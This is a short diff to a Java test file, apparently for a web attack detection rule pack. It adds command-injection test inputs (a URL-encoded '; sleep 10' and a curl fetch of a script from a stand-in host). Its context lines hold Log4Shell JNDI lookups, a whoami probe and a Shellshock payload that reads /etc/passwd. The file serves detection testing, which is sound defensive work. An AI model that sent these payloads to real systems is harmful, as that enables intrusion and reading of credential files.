@@ -73,6 +73,8 @@ public class RulePackTest {
       "/|cmdi|perl -e 'print 1'",
       "/|cmdi|whoami",
       "/files/ls%20-l%20/etc/|cmdi|",
+      "/c?h=x%3B%20sleep%2010|cmdi|",
+      "/files/curl%20https://x.example/a.sh|cmdi|",
       "/|log4shell|${jndi:ldap://x.example/a}",
       "/?x=%24%7B%24%7B::-j%7Dndi:rmi://x.example/a%7D|log4shell|",
       "/cgi-bin/status|shellshock|() { :; }; echo; /bin/cat /etc/passwd",
